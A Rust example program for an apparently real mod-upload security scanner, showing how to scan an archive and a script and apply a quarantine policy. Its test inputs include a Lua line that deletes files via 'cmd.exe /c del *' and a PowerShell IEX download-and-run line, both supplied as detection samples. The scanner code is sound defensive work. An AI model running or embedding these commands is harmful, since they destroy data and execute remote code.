//! Scans a single upload and prints the verdict.
//!
//! This example shows how to:
//! - Build a `SecurityScanService` from configuration
//! - Scan an in-memory archive and a loose script
//! - Apply the publication policy to the verdicts
//!
//! Run with: cargo run --example scan_upload

use modscan::prelude::*;
use std::io::{Cursor, Write};
use tracing_subscriber::EnvFilter;
use zip::write::SimpleFileOptions;
use zip::ZipWriter;

fn build_archive() -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let entries: [(&str, &[u8]); 4] = [
        ("readme.txt", b"Drop the plugin into Data/"),
        ("scripts/init.lua", b"os.execute('cmd.exe /c del *')"),
        ("bin/helper.exe", b"MZ"),
        (".modinfo", b"name=demo"),
    ];
    for (name, data) in entries {
        writer.start_file(name, SimpleFileOptions::default())?;
        writer.write_all(data)?;
    }
    Ok(writer.finish()?.into_inner())
}

fn report(name: &str, scan: &SecurityScan, policy: &SafetyPolicy) {
    println!("\n=== {} ===", name);
    println!("Status: {:?}", scan.status);
    println!("Files scanned: {}", scan.files_scanned);
    for (folder, count) in &scan.folder_structure {
        println!("  {:<12} {} file(s)", folder, count);
    }
    for threat in &scan.threats {
        println!(
            "  [{}] {} {}: {}",
            threat.severity, threat.threat_name, threat.file_path, threat.description
        );
    }

    match policy.evaluate(scan).action {
        PolicyAction::Publish => println!("Decision: publish"),
        PolicyAction::Quarantine { reason } => println!("Decision: quarantine ({})", reason),
    }
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    tracing_subscriber::fmt()
        .with_env_filter(EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")))
        .init();

    let config = ScanConfig::default().with_sha256(true);
    let service = SecurityScanService::new(&config)?;
    let policy = SafetyPolicy::default();

    let archive = service.scan_bytes(&build_archive()?, "BetterLighting.zip", None);
    report("BetterLighting.zip", &archive, &policy);

    let script = service.scan_bytes(
        b"IEX (New-Object Net.WebClient).DownloadString($url)",
        "setup.ps1",
        Some("text/plain"),
    );
    report("setup.ps1", &script, &policy);

    println!("\n=== JSON ===");
    println!("{}", serde_json::to_string_pretty(&archive)?);

    Ok(())
}
